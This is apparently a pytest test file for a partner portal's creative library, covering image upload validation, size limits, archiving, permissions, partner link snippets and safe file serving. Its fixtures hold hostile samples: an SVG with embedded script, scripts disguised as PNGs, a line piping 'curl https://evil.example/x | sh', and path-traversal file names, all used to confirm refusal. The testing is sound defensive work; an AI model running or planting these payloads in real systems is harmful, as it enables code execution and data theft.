"""Creative assets: managers upload and archive them; uploads are checked by content; files
are served with their checked type and never sniffed; partners use them with their link."""

from __future__ import annotations

import io
import os
import re

import pytest
from PIL import Image
from sqlalchemy import select

from partner_portal.models import AuditEntry, Creative

from ..factories import CreativeFactory, LinkFactory, OfferFactory


def image_bytes(fmt: str, size=(300, 250), noise: bool = False) -> bytes:
    image = Image.new("RGB", size, (31, 79, 209))
    if noise:
        image = Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3))
    buffer = io.BytesIO()
    image.save(buffer, format=fmt)
    return buffer.getvalue()


SVG_WITH_SCRIPT = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="300" '
                   b'height="250"><script>alert(document.cookie)</script><rect width="300" '
                   b'height="250"/></svg>')
SCRIPT_AS_PNG = b"<script>fetch('/admin/staff',{method:'POST'})</script>\n"
SHELL_AS_PNG = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"


@pytest.fixture()
def store(app, tmp_path, monkeypatch):
    monkeypatch.setitem(app.config, "CREATIVES_DIR", tmp_path / "creatives")
    return tmp_path / "creatives"


@pytest.fixture()
def manager(login_as):
    return login_as("manager")


def upload(client, offer, data: bytes, filename: str, content_type: str = "image/png", **fields):
    form = {"offer_id": str(offer.id), "name": fields.pop("name", "Spring banner"),
            "alt_text": "Spring sale", "file": (io.BytesIO(data), filename, content_type)}
    form.update(fields)
    return client.post("/admin/creatives/new/banner", data=form,
                       content_type="multipart/form-data")


@pytest.mark.parametrize("fmt, filename, content_type, ext", [
    ("PNG", "banner.png", "image/png", "png"),
    ("JPEG", "banner.jpg", "image/jpeg", "jpg"),
    ("GIF", "banner.gif", "image/gif", "gif"),
    ("WEBP", "banner.webp", "image/webp", "webp"),
    # The content decides, not the name or the claimed type.
    ("JPEG", "looks-like.png", "image/png", "jpg"),
])
def test_a_banner_is_stored_under_a_random_name_with_its_size(client, db, manager, store, fmt,
                                                              filename, content_type, ext):
    offer = OfferFactory()
    db.session.commit()
    response = upload(client, offer, image_bytes(fmt, (728, 90)), filename, content_type)
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    creative = db.session.scalar(select(Creative))
    assert (creative.width, creative.height, creative.kind) == (728, 90, "banner")
    assert creative.content_type == f"image/{'jpeg' if ext == 'jpg' else ext}"
    assert re.fullmatch(r"[A-Za-z0-9_-]{24}\." + ext, creative.file_name)
    assert "banner" not in creative.file_name and "looks-like" not in creative.file_name
    assert (store / creative.file_name).read_bytes()[:4] == image_bytes(fmt, (728, 90))[:4]
    assert db.session.scalar(select(AuditEntry.action)) == "creative.create"

    served = client.get(f"/admin/creatives/{creative.id}/image")
    assert served.status_code == 200 and served.mimetype == creative.content_type
    assert served.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("data, filename, content_type", [
    (SVG_WITH_SCRIPT, "banner.svg", "image/svg+xml"),
    (SVG_WITH_SCRIPT, "banner.png", "image/png"),
    (SCRIPT_AS_PNG, "banner.png", "image/png"),
    (SHELL_AS_PNG, "banner.png", "image/png"),
    (b"GIF89a" + SCRIPT_AS_PNG, "banner.gif", "image/gif"),  # a GIF header, then script
    (image_bytes("PNG")[:200], "truncated.png", "image/png"),
    (image_bytes("BMP"), "banner.bmp", "image/bmp"),  # a real image, not an allowed type
    (b"", "empty.png", "image/png"),
])
def test_uploads_that_are_not_allowed_images_are_refused(client, db, manager, store, data,
                                                         filename, content_type):
    offer = OfferFactory()
    db.session.commit()
    response = upload(client, offer, data, filename, content_type)
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    assert ("not a PNG, JPEG, GIF or WebP image" in html or "Choose an image file" in html)
    assert 'id="file-error"' in html
    assert db.session.scalar(select(Creative)) is None
    assert not store.exists() or not any(store.iterdir())


def test_an_oversized_file_is_refused(app, client, db, manager, store, monkeypatch):
    monkeypatch.setitem(app.config, "CREATIVE_MAX_BYTES", 20 * 1024)
    offer = OfferFactory()
    db.session.commit()
    big = image_bytes("PNG", (120, 120), noise=True)  # ~43 KB of incompressible pixels
    assert len(big) > 20 * 1024
    response = upload(client, offer, big, "big.png")
    assert response.status_code == 422
    assert "larger than 20 KB" in response.get_data(as_text=True)
    # A body far over the limit is refused before it is read.
    huge = upload(client, offer, big * 4, "huge.png")
    assert huge.status_code == 413 and "larger than 20 KB" in huge.get_data(as_text=True)
    assert db.session.scalar(select(Creative)) is None


def test_an_image_too_large_in_pixels_is_refused(app, client, db, manager, store, monkeypatch):
    monkeypatch.setitem(app.config, "CREATIVE_MAX_SIDE", 1000)
    offer = OfferFactory()
    db.session.commit()
    response = upload(client, offer, image_bytes("PNG", (1200, 50)), "wide.png")
    assert response.status_code == 422 and "1200×50 pixels" in response.get_data(as_text=True)


def test_text_creatives_and_their_checks(client, db, manager):
    offer = OfferFactory()
    db.session.commit()
    missing = client.post("/admin/creatives/new/email", data={
        "offer_id": str(offer.id), "name": "Blurb", "body": "Hi {link}", "subject": ""})
    assert missing.status_code == 422 and "one-line subject" in missing.get_data(as_text=True)
    made = client.post("/admin/creatives/new/email", data={
        "offer_id": str(offer.id), "name": "Blurb", "body": "Hi {link}", "subject": "Hello"})
    assert made.status_code == 302
    creative = db.session.scalar(select(Creative))
    assert (creative.kind, creative.subject, creative.file_name) == ("email", "Hello", None)
    assert client.get("/admin/creatives/new/poster").status_code == 404


def test_archive_and_restore_are_audited_and_hide_the_creative_from_partners(
        app, client, db, manager, store):
    offer = OfferFactory()
    db.session.commit()
    upload(client, offer, image_bytes("PNG"), "b.png")
    creative = db.session.scalar(select(Creative))
    public = f"/creatives/{creative.file_name}"
    assert app.test_client().get(public).status_code == 200

    assert client.post(f"/admin/creatives/{creative.id}/archive").status_code == 302
    db.session.refresh(creative)
    assert creative.status == "archived" and creative.archived_at is not None
    assert app.test_client().get(public).status_code == 404
    listed = client.get("/admin/creatives?status=archived").get_data(as_text=True)
    assert "Spring banner" in listed

    again = client.post(f"/admin/creatives/{creative.id}/archive", follow_redirects=True)
    assert "Cannot archive a creative that is archived." in again.get_data(as_text=True)
    client.post(f"/admin/creatives/{creative.id}/restore")
    db.session.refresh(creative)
    assert creative.status == "active"
    actions = list(db.session.scalars(select(AuditEntry.action).order_by(AuditEntry.id)))
    assert actions == ["creative.create", "creative.archive", "creative.restore"]


def test_only_managers_change_creatives(client, db, login_as, store):
    login_as("analyst")
    offer = OfferFactory()
    creative = CreativeFactory(offer=offer)
    db.session.commit()
    assert client.get("/admin/creatives").status_code == 200
    assert upload(client, offer, image_bytes("PNG"), "b.png").status_code == 403
    assert client.post(f"/admin/creatives/{creative.id}/archive").status_code == 403


# --- the partner's side --------------------------------------------------------------------

@pytest.fixture()
def library(app, client, db, store, make_user):
    """Two banners and a text link on an offer, uploaded by a manager; then a partner signs in."""
    from ..conftest import login

    staff = make_user("manager")
    login(client, staff.email)
    shoes, boxes = OfferFactory(name="Shoes"), OfferFactory(name="Boxes")
    db.session.commit()
    upload(client, shoes, image_bytes("PNG", (300, 250)), "a.png", name="Square")
    upload(client, shoes, image_bytes("GIF", (728, 90)), "b.gif", name="Leaderboard")
    CreativeFactory(offer=boxes, kind="text_link", name="Box text", body="Get <your> box")
    db.session.commit()
    client.post("/logout")
    partner = make_user("partner")
    login(client, partner.email)
    return {"partner": partner.partner, "shoes": shoes, "boxes": boxes,
            "square": db.session.scalar(select(Creative).where(Creative.name == "Square"))}


def test_partners_browse_by_offer_and_size_and_copy_a_snippet_with_their_link(
        app, client, db, library):
    link = LinkFactory(partner=library["partner"], offer=library["shoes"], code="mylink01")
    db.session.commit()
    html = client.get(f"/partner/creatives?offer={library['shoes'].id}").get_data(as_text=True)
    assert "Square" in html and "Leaderboard" in html and "Box text" not in html
    square = library["square"]
    snippet = (f'&lt;a href=&#34;{app.config["BASE_URL"]}/r/mylink01&#34; rel=&#34;sponsored '
               f'noopener&#34; target=&#34;_blank&#34;&gt;&lt;img src=&#34;{app.config["BASE_URL"]}'
               f'/creatives/{square.file_name}&#34; width=&#34;300&#34; height=&#34;250&#34;')
    assert snippet in html

    sized = client.get("/partner/creatives?size=728x90").get_data(as_text=True)
    assert "Leaderboard" in sized and "Square" not in sized
    assert 'value="728x90"' in sized and 'value="300x250"' in sized  # the size filter

    # No link yet for the other offer: the page offers to make one, and it comes back here.
    boxes = client.get(f"/partner/creatives?offer={library['boxes'].id}").get_data(as_text=True)
    assert "Create my link for this offer" in boxes
    made = client.post("/partner/links", data={"offer_id": str(library["boxes"].id),
                                               "next": f"/partner/creatives?offer={library['boxes'].id}"})
    assert made.headers["Location"] == f"/partner/creatives?offer={library['boxes'].id}"
    after = client.get(made.headers["Location"]).get_data(as_text=True)
    assert "Get &amp;lt;your&amp;gt; box&lt;/a&gt;" in after  # escaped in the snippet, then on the page
    assert link.id


def test_partners_preview_and_download_banner_files_safely(client, db, library):
    square = library["square"]
    preview = client.get(f"/partner/creatives/{square.id}/image")
    assert preview.status_code == 200 and preview.mimetype == "image/png"
    assert preview.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in preview.headers["Content-Security-Policy"]
    assert "attachment" not in preview.headers.get("Content-Disposition", "")
    assert Image.open(io.BytesIO(preview.data)).size == (300, 250)
    download = client.get(f"/partner/creatives/{square.id}/download")
    assert download.headers["Content-Disposition"].startswith("attachment")
    assert "Shoes-Square-300x250.png" in download.headers["Content-Disposition"]
    detail = client.get(f"/partner/creatives/{square.id}").get_data(as_text=True)
    assert "300 × 250 pixels" in detail
    # Text creatives have no file.
    text = db.session.scalar(select(Creative).where(Creative.kind == "text_link"))
    assert client.get(f"/partner/creatives/{text.id}/download").status_code == 404


def test_the_public_banner_address_serves_only_stored_names(app, client, db, library):
    square = library["square"]
    anonymous = app.test_client()
    ok = anonymous.get(f"/creatives/{square.file_name}")
    assert ok.status_code == 200 and ok.mimetype == "image/png"
    assert ok.headers["X-Content-Type-Options"] == "nosniff"
    for name in ("../../config.py", "..%2F..%2Fconfig.py", square.file_name.replace(".png", ".svg"),
                 "AAAAAAAAAAAAAAAAAAAAAAAA.png"):
        assert anonymous.get(f"/creatives/{name}").status_code == 404, name
